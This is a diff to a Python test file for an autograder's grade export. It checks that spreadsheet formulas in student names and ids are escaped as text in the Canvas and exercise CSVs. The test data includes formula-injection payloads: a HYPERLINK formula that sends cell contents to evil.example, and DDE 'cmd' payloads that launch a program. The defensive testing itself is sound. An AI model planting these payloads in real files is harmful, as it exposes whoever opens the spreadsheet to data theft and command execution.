@@ -3,9 +3,11 @@
 import csv
 
 import pytest
+from nbgrader.api import Gradebook
 
 from autograder import cli
-from test_lms import course, lms_course, submitted_files, zip_of  # noqa: F401 (fixtures)
+from autograder.export import ExerciseExport
+from test_lms import course, lms_course, read_csv, submitted_files, zip_of  # noqa: F401 (fixtures)
 
 GRACE = "Grace Hopper_4711_assignsubmission_file_/"
 
@@ -114,3 +116,46 @@ def test_is_a_roster_id_that_is_no_folder_name_refused(lms_course, tmp_path, cap
     assert not any(c for c in printed if not c.isprintable() and c != "\n"), repr(printed)
     assert f"roster.csv: the student id {shown} cannot name a folder" in printed
     assert course_files(lms_course) == before
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+9)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [  # id, first name, last name, email, LMS user id
+    (FORMULAS[1], "Eve", FORMULAS[0], FORMULAS[3], FORMULAS[2]),
+    (FORMULAS[4], FORMULAS[5], "", FORMULAS[4], "-7"),
+]
+
+
+@pytest.fixture(scope="module")
+def hostile_course(tmp_path_factory):
+    """A gradebook whose students' names, ids, emails and LMS ids are spreadsheet formulas, the
+    first one's score negative (an instructor's manual score)."""
+    folder = tmp_path_factory.mktemp("hostile-course")
+    with Gradebook(f"sqlite:///{folder / 'gradebook.db'}") as gradebook:
+        gradebook.add_assignment("alpha")
+        gradebook.add_notebook("alpha", "alpha")
+        gradebook.add_grade_cell("test_one", "alpha", "alpha", max_score=2.0, cell_type="code")
+        for (sid, first, last, email, lms), score in zip(HOSTILE, (-1.0, 1.5)):
+            gradebook.add_student(sid, first_name=first, last_name=last, email=email, lms_user_id=lms)
+            gradebook.add_submission("alpha", sid)
+            gradebook.find_grade("test_one", "alpha", "alpha", sid).manual_score = score
+        gradebook.db.commit()
+    return folder
+
+
+def test_are_formulas_in_names_and_ids_written_to_the_canvas_csv_as_text(hostile_course):
+    assert cli.main(["--course-dir", str(hostile_course), "export", "--format", "canvas"]) == 0
+    rows = read_csv(hostile_course / "canvas_grades.csv")
+    assert rows[1] == ["Points Possible", "", "", "", "", "2"]
+    assert sorted(rows[2:]) == sorted([
+        ["'" + FORMULAS[0] + ", Eve", "'" + FORMULAS[2], "'" + FORMULAS[1], "'" + FORMULAS[3], "", "0"],
+        ["'" + FORMULAS[5], "'-7", "'" + FORMULAS[4], "'" + FORMULAS[4], "", "1.5"],
+    ])
+
+
+def test_are_formulas_written_to_the_exercise_csv_as_text_and_a_negative_score_as_a_number(hostile_course, tmp_path):
+    with Gradebook(f"sqlite:///{hostile_course / 'gradebook.db'}") as gradebook:
+        ExerciseExport(to=str(tmp_path / "exercises.csv")).export(gradebook)
+    rows = read_csv(tmp_path / "exercises.csv")
+    assert sorted(rows[1:]) == sorted([["'" + FORMULAS[1], "alpha", "alpha", "one", "-1", "2"],
+                                       ["'" + FORMULAS[4], "alpha", "alpha", "one", "1.5", "2"]])
